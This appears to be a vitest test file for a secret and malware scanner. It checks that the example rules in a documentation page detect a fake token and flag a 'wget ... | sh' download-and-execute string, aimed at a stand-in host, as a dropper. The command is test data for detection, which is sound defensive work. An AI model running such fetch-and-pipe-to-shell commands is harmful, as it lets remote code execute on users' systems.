import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadMalwareRules, scanMalware } from './malware/index.ts';
import { randomText } from './secrets/fixtures/random-text.ts';
import { loadSecretRules, scanSecrets } from './secrets/index.ts';

const page = readFileSync(new URL('../../docs/adding-a-rule.md', import.meta.url), 'utf8');

function example(language: string): string {
  const block = new RegExp(`^\`\`\`${language}\n([^]*?)^\`\`\``, 'm').exec(page);
  if (!block?.[1]) throw new Error(`docs/adding-a-rule.md has no example in ${language}`);
  return block[1];
}

describe('the examples of docs/adding-a-rule.md', () => {
  it('find a secret', () => {
    const hits = scanSecrets(loadSecretRules([example('toml')]), 'a', Buffer.from(`t=ex_${randomText(32)}`));
    expect(hits).toMatchObject([{ rule: 'example-token', title: 'Example token', severity: 'high' }]);
  });

  it('find malware', () => {
    const rules = loadMalwareRules([example('yara')]);
    const [fetch, pipe] = ['wget http://a.example/x -O -', '| sh'];
    expect(scanMalware(rules, 'a', Buffer.from(`${fetch} ${pipe}`))).toMatchObject([
      { severity: 'high', category: 'dropper' },
    ]);
    expect(scanMalware(rules, 'a', Buffer.from(`${fetch}\n${pipe}`))).toEqual([]);
  });
});
